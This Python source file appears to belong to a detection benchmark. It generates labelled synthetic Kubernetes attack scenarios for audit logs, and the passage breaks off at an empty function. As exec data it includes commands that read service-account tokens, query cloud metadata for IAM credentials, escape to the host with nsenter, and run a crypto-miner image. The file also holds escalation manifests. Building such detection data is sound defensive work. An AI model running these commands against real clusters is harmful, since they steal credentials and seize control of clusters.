"""Attack scenarios injected into the last day, each labelled with every event it produced.

Each category is one function that acts through identities the background already has
(stolen engineer sessions, service-account tokens, node credentials, the CI role) or through
new ones (an anonymous client, an unauthenticated brute-forcer). The seed picks the
categories, victims, addresses, clients, times and intensities; some variants are subtle
(low volume, usual address, usual client) and some requests are denied, as in real intrusions.
Only requests the attacker sends are labelled, not the controllers' reactions to them.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field

from . import objects as o
from .background import Background, user_binding
from .cluster import (
    ACCOUNT,
    ANONYMOUS,
    APP_NAMESPACES,
    PUBLIC_INFO,
    Cluster,
    Engineer,
    access_key,
    binding_reason,
    public_ip,
    rand_str,
    rules_authz,
)
from .emit import HOUR, MINUTE, US, Actor, Emitter, exec_query
from .pki import csr_request

SECOND = US
CATEGORIES = [
    "stolen_user_credentials", "stolen_sa_token", "permission_probing", "secrets_sweep", "anonymous_access_granted",
    "rbac_escalation", "exec_system_pod", "aws_auth_tampering", "privileged_workload", "credential_minting",
    "defense_evasion", "system_identity_public_ip", "auth_brute_force", "webhook_tampering",
    "workload_json_patch", "privileged_debug_container", "exec_payload", "nodes_proxy_exec", "dns_hijack",
    "service_exposure", "client_certificate", "kube_system_persistence", "system_identity_abuse",
    "quiet_secret_theft",
]
# The seeds `make evaluate` and the measured-quality table use; every category appears on at least two.
EVALUATE_SEEDS = tuple(range(1, 9))
VPS_PREFIXES = ["45.77.", "45.32.", "139.59.", "159.89.", "167.99.", "5.161.", "95.216.", "51.75.", "172.105.",
                "194.26.", "185.220.101.", "2.58.56.", "91.92.", "193.142.146.", "103.152."]
ATTACK_KUBECTL = "kubectl/v1.30.2 (linux/amd64) kubernetes/3968350"
SCRIPT_UAS = ["python-requests/2.32.3", "curl/8.5.0", "Go-http-client/1.1", "Go-http-client/2.0"]


@dataclass
class Scenario:
    """One labelled attack: who acted, from where, when, and every auditID it produced."""

    id: str
    category: str
    description: str
    user: str | None
    source_ip: str
    start: int = 0
    end: int = 0
    audit_ids: list[str] = field(default_factory=list)


class Run:
    """A sequence of attacker requests at increasing times; records every auditID."""

    def __init__(self, em: Emitter, rng: random.Random, actor: Actor | None, t: int, scenario: Scenario):
        self.em, self.rng, self.actor, self.t, self.s = em, rng, actor, t, scenario

    def wait(self, lo: float, hi: float) -> None:
        self.t += int(self.rng.uniform(lo, hi) * SECOND)

    def req(self, verb: str, res: str = "", ns: str = "", name: str = "", sub: str = "", gap=(0.2, 3.0),
            **kw) -> str:
        """One request `gap` seconds after the previous; the actor's permissions decide the
        outcome unless `code` is given."""
        self.wait(*gap)
        kw.setdefault("code", None)
        aid = self.em.request(self.t, self.actor, verb, res, ns, name, sub, **kw)
        self.s.audit_ids.append(aid)
        return aid

    def discovery(self) -> None:
        self.req("get", uri="/api?timeout=32s", gap=(0.1, 0.5))
        self.req("get", uri="/apis?timeout=32s", gap=(0.01, 0.1))

    def look_around(self, most: int = 4) -> None:
        """Up to `most` ordinary reads (namespaces, pods, deployments, services): the
        unremarkable part of an intrusion, which still belongs to it."""
        for _ in range(self.rng.randint(0, most)):
            ns = self.rng.choice(APP_NAMESPACES + ["default", "kube-system"])
            verb, res, group, name = self.rng.choice((("get", "namespaces", "", ns), ("list", "pods", "", ""),
                                                      ("list", "deployments", "apps", ""), ("list", "services", "", "")))
            self.req(verb, res, "" if res == "namespaces" else ns, name, group=group,
                     query="" if name else "limit=500", gap=(1, 20))


def vps_ip(rng: random.Random) -> str:
    return public_ip(rng, VPS_PREFIXES)


def categories(seed: int) -> list[str]:
    """The seed's scenario categories: 9 to 11 consecutive ones of CATEGORIES, the first moved
    on by 10 places per seed, so a handful of consecutive seeds covers every category."""
    n = random.Random(f"auditsift-attacks-{seed}").randint(9, 11)
    first = (seed * 10) % len(CATEGORIES)
    return [CATEGORIES[(first + i) % len(CATEGORIES)] for i in range(n)]


class Attacks:
    """Plans and writes the seed's scenarios into the last day [day0, end)."""

    def __init__(self, cluster: Cluster, bg: Background, seed: int, day0: int, end: int):
        self.c, self.bg, self.seed, self.day0, self.end = cluster, bg, seed, day0, end
        self.rng = random.Random(f"auditsift-attacks-{seed}")
        self.em = Emitter(self.rng.getrandbits(64))
        self.scenarios: list[Scenario] = []
        self.victims: set[str] = set()

    def plan(self) -> list[tuple[int, bytes]]:
        """Write every scenario; return its events as (stageTimestamp, line), time-sorted."""
        for i, cat in enumerate(categories(self.seed)):
            srng = random.Random(f"auditsift-attack-{self.seed}-{cat}")
            t0 = self.day0 + int(srng.uniform(0.4, 20.5) * HOUR)
            s = Scenario(f"s{i + 1:02d}-{cat.replace('_', '-')}", cat, "", None, "")
            mark = len(self.em.index)
            getattr(self, f"_{cat}")(srng, t0, s)
            times = [t for t, _, _ in self.em.index[mark:]]
            s.start, s.end = min(times), max(times)
            self.scenarios.append(s)
        return sorted(self.em.drain())

    # ---- helpers ---------------------------------------------------------------------------
    def _engineer(self, rng: random.Random, platform: bool | None = None) -> Engineer:
        """A victim engineer, preferring one no earlier scenario has used."""
        pool = [e for e in self.c.engineers if platform is None or e.platform == platform] or self.c.engineers
        fresh = [e for e in pool if e.username not in self.victims]
        eng = rng.choice(fresh or pool)
        self.victims.add(eng.username)
        return eng

    def _stolen(self, rng: random.Random, eng: Engineer, ip: str, ua: str) -> Actor:
        return eng.actor(access_key(rng), [ip], ua)

    def _night(self, rng: random.Random, eng: Engineer, t0: int) -> int:
        """A time in the victim's local night that falls inside the attack window."""
        for _ in range(50):
            local_hour = rng.uniform(0.5, 5.0)
            local_day = int((self.day0 / US + eng.tz * 3600) // 86400) + rng.choice((0, 1))
            t = int((local_day * 86400 - eng.tz * 3600) * US + local_hour * HOUR)
            if self.day0 + 20 * MINUTE <= t <= self.end - 4 * HOUR:
                return t
        return t0

    # ---- categories ------------------------------------------------------------------------
    def _stolen_user_credentials(self, rng, t0, s):
        eng = self._engineer(rng)
        ip, ua = vps_ip(rng), rng.choice([ATTACK_KUBECTL, "python-requests/2.32.3", "curl/8.5.0"])
        a = self._stolen(rng, eng, ip, ua)
        s.user, s.source_ip = eng.username, ip
        subtle = rng.random() < 0.35
        s.description = (f"{eng.username}'s AWS session used from {ip} ({ua}) at night in their zone: discovery, "
                         f"then secret reads{' (low volume)' if subtle else ''}")
        r = Run(self.em, rng, a, self._night(rng, eng, t0), s)
        r.discovery()
        r.look_around()
        r.req("list", "namespaces", query="limit=500")
        r.req("list", "pods", query="limit=500")
        if not subtle:
            r.req("list", "deployments", group="apps", query="limit=500")
            r.req("get", "configmaps", "kube-system", "aws-auth")
            for ns in rng.sample(APP_NAMESPACES, 3):
                r.req("list", "secrets", ns, query="limit=500", gap=(1, 8))
        targets = rng.sample(self.c.secret_inventory(), 3 if subtle else rng.randint(5, 12))
        for ns, name in targets:
            r.req("get", "secrets", ns, name, gap=(2, 25))

    def _stolen_sa_token(self, rng, t0, s):
        wl = rng.choice([w for w in self.c.workloads if w.ns in APP_NAMESPACES and w.pods])
        pod = rng.choice(wl.pods)
        ip, ua = vps_ip(rng), rng.choice([ATTACK_KUBECTL, "curl/8.5.0", "python-requests/2.32.3"])
        a = pod.actor.via([ip], ua)
        s.user, s.source_ip = a.username, ip
        s.description = f"token of {a.username} (pod {pod.name}, normally from {pod.ip}) replayed from {ip} with {ua}"
        r = Run(self.em, rng, a, t0, s)
        r.discovery()
        r.look_around()
        body = {"kind": "SelfSubjectRulesReview", "apiVersion": "authorization.k8s.io/v1", "metadata": {"creationTimestamp": None},
                "spec": {"namespace": wl.ns}}
        r.req("create", "selfsubjectrulesreviews", group="authorization.k8s.io", req=body,
              resp={**body, "status": {"resourceRules": [o.rule([""], ["secrets"], ["get"])], "incomplete": False}})
        r.req("list", "namespaces", query="limit=500")
        r.req("list", "secrets", query="limit=500")
        r.req("list", "secrets", wl.ns, query="limit=500")
        for name in (wl.secrets + self.c.secrets.get(wl.ns, []))[: rng.randint(2, 5)]:
            r.req("get", "secrets", wl.ns, name, gap=(1, 6))
        r.req("list", "pods", wl.ns, query="limit=500")
        for ns in rng.sample(APP_NAMESPACES, rng.randint(1, 3)):
            r.req("list", "pods", ns, query="limit=500")
        debug = o.container("debug", "alpine:3.19", command=["sleep", "86400"])
        pod_body = o.pod(o.meta(f"debug-{rand_str(rng, 5)}", wl.ns), o.pod_spec(wl.sa, [debug]))
        r.req("create", "pods", wl.ns, req=pod_body, gap=(5, 30))

    def _permission_probing(self, rng, t0, s):
        if rng.random() < 0.5:
            eng = self._engineer(rng, platform=False)
            a = eng.actor(access_key(rng), [rng.choice(eng.ips)])
            s.description = (f"{eng.username} from a usual address runs `kubectl auth can-i` across resources, "
                             "then probes with many denied requests")
        else:
            wl = rng.choice([w for w in self.c.workloads if w.ns in APP_NAMESPACES and w.pods])
            pod = wl.pods[0]
            a = pod.actor.via(pod.actor.ips, ATTACK_KUBECTL)
            s.description = f"from inside pod {pod.name}, {a.username} enumerates its permissions (kubectl downloaded into the pod)"
        s.user, s.source_ip = a.username, a.ips[-1]
        r = Run(self.em, rng, a, t0, s)
        r.discovery()
        r.look_around()
        checks = [("get", "secrets", "kube-system"), ("list", "secrets", ""), ("create", "pods", "kube-system"),
                  ("create", "clusterrolebindings", ""), ("impersonate", "users", ""), ("create", "pods/exec", "default"),
                  ("get", "nodes", ""), ("create", "serviceaccounts/token", "kube-system"), ("patch", "configmaps", "kube-system"),
                  ("escalate", "clusterroles", ""), ("bind", "clusterroles", ""), ("list", "pods", "")]
        for verb, res, ns in rng.sample(checks, rng.randint(5, len(checks))):
            resource, _, sub = res.partition("/")
            allowed = a.authorize(verb, resource, sub, ns, "", "") is not None
            attrs = {"namespace": ns, "verb": verb, "resource": resource}
            if resource in ("clusterrolebindings", "clusterroles"):
                attrs["group"] = "rbac.authorization.k8s.io"  # kubectl resolves the group by discovery
            if sub:
                attrs["subresource"] = sub
            body = {"kind": "SelfSubjectAccessReview", "apiVersion": "authorization.k8s.io/v1",
                    "metadata": {"creationTimestamp": None}, "spec": {"resourceAttributes": attrs}}
            r.req("create", "selfsubjectaccessreviews", group="authorization.k8s.io", req=body,
                  resp={**body, "status": {"allowed": allowed}}, gap=(0.3, 2))
        body = {"kind": "SelfSubjectRulesReview", "apiVersion": "authorization.k8s.io/v1", "metadata": {"creationTimestamp": None},
                "spec": {"namespace": "kube-system"}}
        r.req("create", "selfsubjectrulesreviews", group="authorization.k8s.io", req=body, resp={**body, "status": {"incomplete": False}})
        probes = [("list", "secrets", "", "", ""), ("list", "secrets", "kube-system", "", ""),
                  ("list", "clusterroles", "", "rbac.authorization.k8s.io", ""),
                  ("list", "clusterrolebindings", "", "rbac.authorization.k8s.io", ""), ("list", "nodes", "", "", ""),
                  ("list", "serviceaccounts", "kube-system", "", ""), ("list", "pods", "kube-system", "", ""),
                  ("list", "daemonsets", "kube-system", "apps", ""),
                  ("list", "mutatingwebhookconfigurations", "", "admissionregistration.k8s.io", ""),
                  ("list", "certificatesigningrequests", "", "certificates.k8s.io", ""), ("list", "persistentvolumes", "", "", ""),
                  ("get", "configmaps", "kube-system", "", "aws-auth"), ("list", "roles", "default", "rbac.authorization.k8s.io", ""),
                  ("list", "deployments", "kube-system", "apps", ""), ("list", "secrets", "default", "", "")]
        for verb, res, ns, group, name in rng.sample(probes, rng.randint(8, len(probes))):
            r.req(verb, res, ns, name, group=group, query="" if name else "limit=500", gap=(0.5, 6))

    def _secrets_sweep(self, rng, t0, s):
        variant = rng.random()
        if variant < 0.4:
            eng = self._engineer(rng, platform=True)
            a = eng.actor(access_key(rng), [rng.choice(eng.ips)])
            s.description = f"{eng.username} (cluster admin, usual address) lists and reads secrets across every namespace"
        elif variant < 0.7:
            pod = self.c.wl["cert-manager"].pods[0]
            a = pod.actor
            s.description = ("cert-manager's service account, from its own pod and client, reads secrets far beyond "
                             "the certificates it manages")
        else:
            pod = self.c.wl["argocd-application-controller"].pods[0]
            a = pod.actor.via(pod.actor.ips, ATTACK_KUBECTL)
            s.description = "Argo CD's controller identity, from its pod with kubectl, dumps secrets cluster-wide"
        s.user, s.source_ip = a.username, a.ips[-1]
        r = Run(self.em, rng, a, t0, s)
        r.look_around()
        r.req("get", "namespaces", "", "default")
        r.req("list", "secrets", query="limit=500")
        inventory = self.c.secret_inventory()
        namespaces = sorted({ns for ns, _ in inventory})
        for ns in rng.sample(namespaces, rng.randint(3, min(8, len(namespaces)))):
            r.req("list", "secrets", ns, query="limit=500", gap=(0.5, 5))
        for ns, name in rng.sample(inventory, min(len(inventory), rng.randint(15, 28))):
            r.req("get", "secrets", ns, name, gap=(0.3, 20))

    def _anonymous_access_granted(self, rng, t0, s):
        eng = self._engineer(rng, platform=True)
        stolen = rng.random() < 0.5
        creator_ip = vps_ip(rng) if stolen else rng.choice(eng.ips)
        creator = eng.actor(access_key(rng), [creator_ip], ATTACK_KUBECTL if stolen else eng.kubectl)
        role = rng.choice(("view", "view", "cluster-admin"))
        name = rng.choice(("system:anonymous-read", "anonymous-metrics", "public-status-reader", "k8s-dashboard-anon"))
        anon_ip, anon_ua = vps_ip(rng), rng.choice(SCRIPT_UAS)
        s.user, s.source_ip = "system:anonymous", anon_ip
        s.description = (f"{eng.username} (from {creator_ip}) binds ClusterRole {role} to system:anonymous via {name}; "
                         f"then unauthenticated requests from {anon_ip} succeed")
        r = Run(self.em, rng, creator, t0, s)
        body = o.binding("ClusterRoleBinding", name, "ClusterRole", role, [o.subject("User", "system:anonymous")])
        r.req("create", "clusterrolebindings", group="rbac.authorization.k8s.io", req=body,
              resp=o.with_server_fields(body, self.em.uid(), self.em.next_rv(), self.em.ts_s(r.t)))
        reason = binding_reason("ClusterRoleBinding", name, "ClusterRole", role, "User", "system:anonymous")
        read = frozenset({"get", "list", "watch"})
        rules = [(None, None, None)] if role == "cluster-admin" else [
            (read, frozenset({"pods", "services", "namespaces", "configmaps", "deployments", "nodes", "endpoints", "pods/log"}), None)]
        anon = Actor("system:anonymous", ANONYMOUS, [anon_ip], anon_ua, "", rules_authz(rules, lambda ns: reason))
        r.wait(300, 3600)
        r.actor = anon
        r.req("get", uri="/version", reason=PUBLIC_INFO, code=200)
        r.req("list", "namespaces", query="limit=500")
        r.req("list", "pods", query="limit=500")
        for ns in rng.sample(APP_NAMESPACES + ["kube-system"], rng.randint(2, 4)):
            r.req("list", "configmaps", ns, query="limit=500", gap=(1, 10))
            r.req("list", "secrets", ns, query="limit=500", gap=(0.5, 3))
        r.req("list", "deployments", group="apps", query="limit=500")

    def _rbac_escalation(self, rng, t0, s):
        variant = rng.choice(("ci_default_sa", "dev_attempts", "wildcard_impersonation"))
        if variant == "ci_default_sa":
            a = self.c.ci_actor(rng, ATTACK_KUBECTL)
            ns = rng.choice(("default", "kube-system"))
            name = rng.choice(("default-admin", "ci-bootstrap", "kube-system-default-binding"))
            s.user, s.source_ip = a.username, a.ips[-1]
            s.description = f"the CI deploy role, from its usual NAT but with kubectl, binds cluster-admin to ServiceAccount {ns}:default"
            r = Run(self.em, rng, a, t0, s)
            r.discovery()
            r.look_around()
            body = o.binding("ClusterRoleBinding", name, "ClusterRole", "cluster-admin", [o.subject("ServiceAccount", "default", ns)])
            r.req("create", "clusterrolebindings", group="rbac.authorization.k8s.io", req=body,
                  resp=o.with_server_fields(body, self.em.uid(), self.em.next_rv(), self.em.ts_s(t0)))
            r.req("get", "clusterrolebindings", name=name, group="rbac.authorization.k8s.io")
            return
        if variant == "dev_attempts":
            eng = self._engineer(rng, platform=False)
            a = eng.actor(access_key(rng), [rng.choice(eng.ips)])
            s.user, s.source_ip = eng.username, a.ips[-1]
            s.description = f"{eng.username} tries to grant themselves cluster-admin, a wildcard Role and impersonation; mostly denied"
            r = Run(self.em, rng, a, t0, s)
            r.look_around()
            body = o.binding("ClusterRoleBinding", f"{eng.short}-admin", "ClusterRole", "cluster-admin", [o.subject("User", eng.username)])
            r.req("create", "clusterrolebindings", group="rbac.authorization.k8s.io", req=body)
            ns = eng.namespaces[0]
            role = o.role("Role", "ops-all", [o.rule(["*"], ["*"], ["*"])], ns)
            r.req("create", "roles", ns, group="rbac.authorization.k8s.io", req=role, gap=(10, 60))
            target = "system:serviceaccount:kube-system:argocd-application-controller"
            r.req("list", "secrets", "kube-system", query="limit=500", code=403,
                  message=f'users "{target}" is forbidden: User "{eng.username}" cannot impersonate resource "users" '
                          'in API group "" at the cluster scope')
            r.req("get", "clusterroles", name="cluster-admin", group="rbac.authorization.k8s.io")
            return
        eng = self._engineer(rng, platform=True)
        ip = vps_ip(rng)
        a = self._stolen(rng, eng, ip, ATTACK_KUBECTL)
        s.user, s.source_ip = eng.username, ip
        backdoor = rng.choice(("system:metrics-aggregator", "eks-node-bootstrapper", "backup-operator"))
        s.description = (f"{eng.username}'s session from {ip}: wildcard ClusterRole {backdoor} with escalate/bind/impersonate, "
                         f"a binding to a new user, then requests impersonating system:masters")
        r = Run(self.em, rng, a, t0, s)
        r.discovery()
        r.look_around()
        body = o.role("ClusterRole", backdoor, [o.rule(["*"], ["*"], ["*"]),
                                                 o.rule(["rbac.authorization.k8s.io"], ["clusterroles"], ["escalate", "bind"]),
                                                 o.rule([""], ["users", "groups", "serviceaccounts"], ["impersonate"])])
        r.req("create", "clusterroles", group="rbac.authorization.k8s.io", req=body,
              resp=o.with_server_fields(body, self.em.uid(), self.em.next_rv(), self.em.ts_s(r.t)))
        b = o.binding("ClusterRoleBinding", backdoor, "ClusterRole", backdoor, [o.subject("User", "backup-svc@corp.example")])
        r.req("create", "clusterrolebindings", group="rbac.authorization.k8s.io", req=b,
              resp=o.with_server_fields(b, self.em.uid(), self.em.next_rv(), self.em.ts_s(r.t)))
        imp = {"username": "system:admin", "groups": ["system:masters", "system:authenticated"]}
        masters = 'RBAC: allowed by ClusterRoleBinding "cluster-admin" of ClusterRole "cluster-admin" to Group "system:masters"'
        for res, ns in (("secrets", "kube-system"), ("secrets", "argocd"), ("pods", "")):
            r.req("list", res, ns, query="limit=500", impersonate=imp, reason=masters, code=200, gap=(2, 20))

    def _exec_system_pod(self, rng, t0, s):
        stolen = rng.random() < 0.6
        eng = self._engineer(rng, platform=True)
        ip = vps_ip(rng) if stolen else rng.choice(eng.ips)
        a = eng.actor(access_key(rng), [ip], ATTACK_KUBECTL if stolen else eng.kubectl)
        pod = rng.choice([p for name in ("aws-node", "ebs-csi-controller", "coredns", "aws-load-balancer-controller")
                          for p in self.c.wl[name].pods])
        s.user, s.source_ip = eng.username, ip
        mode = rng.choice(("exec", "exec", "exec", "attach", "portforward"))
        s.description = f"{eng.username} from {ip}: {mode} into kube-system pod {pod.name}"
        r = Run(self.em, rng, a, t0, s)
        r.look_around()
        r.req("list", "pods", "kube-system", query="limit=500")
        r.req("get", "pods", "kube-system", pod.name)
        container = pod.workload.containers[0]
        if mode == "exec":
            cmd = rng.choice((["sh", "-c", "cat /var/run/secrets/kubernetes.io/serviceaccount/token"],
                              ["sh", "-c", "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/"],
                              ["sh", "-c", "tar cf - /var/run/secrets/kubernetes.io/serviceaccount"]))
            r.req("create", "pods", "kube-system", pod.name, "exec", query=exec_query(cmd, container),
                  duration=rng.randrange(SECOND, 4 * SECOND))
            if rng.random() < 0.6:
                r.req("create", "pods", "kube-system", pod.name, "exec", query=exec_query(["sh"], container, stdin=True, tty=True),
                      duration=rng.randrange(2 * MINUTE, 15 * MINUTE), gap=(5, 30))
        elif mode == "attach":
            r.req("create", "pods", "kube-system", pod.name, "attach", query=f"container={container}&stdin=true&stdout=true&tty=true",
                  duration=rng.randrange(MINUTE, 10 * MINUTE))
        else:
            r.req("create", "pods", "kube-system", pod.name, "portforward", duration=rng.randrange(5 * MINUTE, 30 * MINUTE))

    def _aws_auth_tampering(self, rng, t0, s):
        variant = rng.choice(("stolen_admin", "ci", "dev_denied"))
        if variant == "ci":
            a = self.c.ci_actor(rng, ATTACK_KUBECTL)
        elif variant == "stolen_admin":
            eng = self._engineer(rng, platform=True)
            a = self._stolen(rng, eng, vps_ip(rng), ATTACK_KUBECTL)
        else:
            eng = self._engineer(rng, platform=False)
            a = eng.actor(access_key(rng), [rng.choice(eng.ips)])
        s.user, s.source_ip = a.username, a.ips[-1]
        attacker_account = "".join(rng.choice("0123456789") for _ in range(12)) if rng.random() < 0.5 else ACCOUNT
        role_name = rng.choice(("eks-admin-break-glass", "NodeInstanceRole-legacy", "support-access"))
        s.description = (f"{a.username} rewrites kube-system/aws-auth mapping "
                         f"arn:aws:iam::{attacker_account}:role/{role_name} to system:masters")
        r = Run(self.em, rng, a, t0, s)
        r.discovery()
        r.look_around()
        r.req("get", "configmaps", "kube-system", "aws-auth")
        node_role = f"arn:aws:iam::{ACCOUNT}:role/{self.c.node_role}"
        map_roles = (f"- rolearn: {node_role}\n  username: system:node:{{{{EC2PrivateDNSName}}}}\n"
                     "  groups:\n    - system:bootstrappers\n    - system:nodes\n"
                     f"- rolearn: arn:aws:iam::{attacker_account}:role/{role_name}\n  username: {role_name}\n"
                     "  groups:\n    - system:masters\n")
        cm = {"kind": "ConfigMap", "apiVersion": "v1", "metadata": o.meta("aws-auth", "kube-system"),
              "data": {"mapRoles": map_roles}}
        verb = rng.choice(("patch", "update"))
        body = {"data": {"mapRoles": map_roles}} if verb == "patch" else cm
        r.req(verb, "configmaps", "kube-system", "aws-auth", req=body,
              resp=o.with_server_fields(cm, self.em.uid(), self.em.next_rv(), self.em.ts_s(t0 - 200 * 86400 * US)), gap=(5, 40))
        r.req("get", "configmaps", "kube-system", "aws-auth", gap=(1, 5))

    def _privileged_workload(self, rng, t0, s):
        """A privileged, host-namespace pod with a sensitive hostPath, created directly or as a
        DaemonSet / CronJob for persistence; the controllers, scheduler and kubelets that
        then run it are part of the scenario."""
        variant = rng.choice(("pod", "daemonset", "cronjob"))
        who = rng.random()
        if who < 0.4:
            a = self.c.ci_actor(rng, ATTACK_KUBECTL)
        else:
            eng = self._engineer(rng, platform=True)
            ip = vps_ip(rng) if who < 0.8 else rng.choice(eng.ips)
            a = eng.actor(access_key(rng), [ip], ATTACK_KUBECTL if who < 0.8 else eng.kubectl)
        s.user, s.source_ip = a.username, a.ips[-1]
        r = Run(self.em, rng, a, t0, s)
        r.discovery()
        r.look_around()
        r.req("list", "nodes", query="limit=500")
        host_path = rng.choice(("/", "/var/run/docker.sock", "/run/containerd/containerd.sock", "/etc/kubernetes",
                                "/var/lib/kubelet"))
        image = rng.choice(("alpine:3.19", "ubuntu:22.04", "docker.io/library/busybox:1.36",
                            "ghcr.io/k8s-tools/node-debugger:latest"))
        cmd = ["nsenter", "--target", "1", "--mount", "--uts", "--ipc", "--net", "--pid", "--", "bash", "-c",
               "sleep 3600"] if host_path == "/" else ["sh", "-c", "sleep infinity"]
        main = o.container("main", image, privileged=True, command=cmd, mounts=[{"name": "host", "mountPath": "/host"}])
        spec = o.pod_spec("default", [main], [{"name": "host", "hostPath": {"path": host_path, "type": ""}}],
                          host_network=rng.random() < 0.7, host_pid=True, host_ipc=rng.random() < 0.4, tolerate_all=True)
        em, bg, ctl = self.em, self.bg, self.bg.ctl
        nodes = self.c.nodes
        if variant == "pod":
            ns = rng.choice(("kube-system", "default"))
            name = rng.choice(("kube-proxy-debug", "node-shell", "aws-node-helper")) + "-" + rand_str(rng, 5)
            body = o.pod(o.meta(name, ns), spec)
            uid = em.uid()
            r.req("create", "pods", ns, req=body, resp=o.with_server_fields(body, uid, em.next_rv(), em.ts_s(r.t)),
                  annotations={"pod-security.kubernetes.io/enforce-policy": "privileged:latest"})
            s.audit_ids += bg.run_pod(r.t, ns, name, uid, rng.choice(nodes), None, em)
            r.req("get", "pods", ns, name, gap=(3, 15))
            desc = f"privileged pod {ns}/{name} (hostPID, hostPath {host_path})"
        elif variant == "daemonset":
            name = rng.choice(("node-log-collector", "kube-proxy-agent", "cni-health"))
            body = o.workload("DaemonSet", name, "kube-system", spec, {"app": name})
            ds_uid = em.uid()
            r.req("create", "daemonsets", "kube-system", group="apps", req=body,
                  resp=o.with_server_fields(body, ds_uid, em.next_rv(), em.ts_s(r.t)))
            owner = {"apiVersion": "apps/v1", "kind": "DaemonSet", "name": name, "uid": ds_uid, "controller": True,
                     "blockOwnerDeletion": True}
            t = r.t
            for node in nodes:
                t += rng.randrange(20_000, 400_000)
                pod = o.pod(o.meta("", "kube-system", generateName=f"{name}-", labels={"app": name},
                                   ownerReferences=[owner]), dict(spec))
                s.audit_ids += bg.create_pod(t, ctl["daemon-set-controller"], "kube-system",
                                             f"{name}-{rand_str(rng, 5)}", pod, node, None, em)
            r.req("get", "daemonsets", "kube-system", name, group="apps", gap=(3, 15))
            desc = f"privileged DaemonSet kube-system/{name} on every node (hostPath {host_path})"
        else:
            name = rng.choice(("log-rotate", "cache-cleanup", "metrics-push"))
            spec["restartPolicy"] = "OnFailure"
            spec["containers"][0]["image"] = rng.choice(("docker.io/xmrig/xmrig:latest", image))
            body = o.workload("CronJob", name, "default", spec, {"app": name}, schedule="0 * * * *")
            cron_uid = em.uid()
            r.req("create", "cronjobs", "default", group="batch", req=body,
                  resp=o.with_server_fields(body, cron_uid, em.next_rv(), em.ts_s(r.t)))
            for t in range(r.t - r.t % HOUR + HOUR, self.end - HOUR, HOUR):
                job = f"{name}-{(t // MINUTE) % 100_000_000}"
                jbody = o.workload("Job", job, "default", spec, {"job-name": job},
                                   owner=o.controller_ref("CronJob", "batch/v1", name, cron_uid))
                start, job_uid = t + rng.randrange(SECOND), em.uid()
                s.audit_ids.append(em.request(start, ctl["cronjob-controller"], "create", "jobs",
                                              "default", group="batch", code=201, req=jbody,
                                              resp=o.with_server_fields(jbody, job_uid, em.next_rv(), em.ts_s(t))))
                pod = o.pod(o.meta("", "default", generateName=f"{job}-", labels={"job-name": job},
                                   ownerReferences=[o.controller_ref("Job", "batch/v1", job, job_uid)]), dict(spec))
                s.audit_ids += bg.create_pod(t + SECOND, ctl["job-controller"], "default", f"{job}-{rand_str(rng, 5)}",
                                             pod, rng.choice(nodes), 10 * MINUTE, em)
            desc = f"CronJob default/{name} running a privileged container every hour (hostPath {host_path})"
        s.description = f"{a.username} from {a.ips[-1]} creates {desc}"

    def _credential_minting(self, rng, t0, s):
        if rng.random() < 0.5:
            eng = self._engineer(rng)
            stolen = rng.random() < 0.5
            ip = vps_ip(rng) if stolen else rng.choice(eng.ips)
            a = eng.actor(access_key(rng), [ip], ATTACK_KUBECTL if stolen else eng.kubectl)
            s.user, s.source_ip = eng.username, ip
            targets = rng.sample([("kube-system", "aws-load-balancer-controller"), ("kube-system", "ebs-csi-controller-sa"),
                                  ("argocd", "argocd-application-controller"), ("kube-system", "clusterrole-aggregation-controller"),
                                  ("cert-manager", "cert-manager")], rng.randint(1, 3))
            s.description = (f"{eng.username} from {ip} mints service-account tokens (TokenRequest) for "
                             + ", ".join(f"{n}/{sa}" for n, sa in targets))
            r = Run(self.em, rng, a, t0, s)
            r.look_around()
            for ns, sa in targets:
                r.req("get", "serviceaccounts", ns, sa)
                r.req("create", "serviceaccounts", ns, sa, "token",
                      annotations={"authentication.kubernetes.io/issued-credential-id": f"JTI={self.em.uid()}"}, gap=(0.5, 4))
            return
        pod = self.c.wl["argocd-application-controller"].pods[0] if rng.random() < 0.5 else None
        if pod:
            a = pod.actor.via(pod.actor.ips, ATTACK_KUBECTL)
        else:
            eng = self._engineer(rng, platform=True)
            a = self._stolen(rng, eng, vps_ip(rng), ATTACK_KUBECTL)
        s.user, s.source_ip = a.username, a.ips[-1]
        cn = rng.choice(("system:admin", "kubernetes-admin", "eks:cluster-bootstrap"))
        name = rng.choice(("node-csr-", "csr-", "admin-")) + rand_str(rng, 8, "abcdefghijklmnopqrstuvwxyz0123456789")
        s.description = f"{a.username} from {a.ips[-1]} creates and self-approves a client-auth CSR for CN={cn}, O=system:masters"
        r = Run(self.em, rng, a, t0, s)
        r.look_around()
        body = o.csr(name, csr_request(f"{self.seed}-{name}", cn, ("system:masters",)), "kubernetes.io/kube-apiserver-client", ["client auth"],
                     rng.choice((None, 31536000)))
        stored = o.csr_stored(body, self.em.uid(), self.em.next_rv(), self.em.ts_s(t0), a.user)
        r.req("create", "certificatesigningrequests", group="certificates.k8s.io", req=body, resp=stored)
        approval = o.csr_approval(stored, "KubectlApprove", "This CSR was approved by kubectl certificate approve.")
        r.req("update", "certificatesigningrequests", name=name, sub="approval", group="certificates.k8s.io",
              req=approval, resp=approval, gap=(3, 30))
        r.req("get", "certificatesigningrequests", name=name, group="certificates.k8s.io", gap=(1, 5))

    def _defense_evasion(self, rng, t0, s):
        eng = self._engineer(rng, platform=True)
        stolen = rng.random() < 0.6
        ip = vps_ip(rng) if stolen else rng.choice(eng.ips)
        a = eng.actor(access_key(rng), [ip], ATTACK_KUBECTL if stolen else eng.kubectl)
        s.user, s.source_ip = eng.username, ip
        s.description = f"{eng.username} from {ip} deletes events to hide activity and disables monitoring"
        r = Run(self.em, rng, a, t0, s)
        r.discovery()
        r.look_around()
        for ns in rng.sample(["kube-system", "default", "payments", "argocd"], rng.randint(1, 3)):
            r.req("deletecollection", "events", ns, req=o.delete_options(), gap=(1, 10))
        for _ in range(rng.randint(2, 10)):
            pod = rng.choice(self.c.pods_in("kube-system"))
            name = f"{pod.name}.{'%016x' % rng.getrandbits(64)}"
            r.req("delete", "events", "kube-system", name, req=o.delete_options(),
                  resp=o.status_success("events", name, self.em.uid()), gap=(0.2, 2))
        if rng.random() < 0.7:
            r.req("delete", "deployments", "monitoring", "kube-state-metrics", group="apps", req=o.delete_options(),
                  resp=o.status_success("deployments", "kube-state-metrics", self.em.uid(), "apps"), gap=(5, 60))
        else:
            r.req("deletecollection", "pods", "monitoring", req=o.delete_options(), gap=(5, 60))

    def _system_identity_public_ip(self, rng, t0, s):
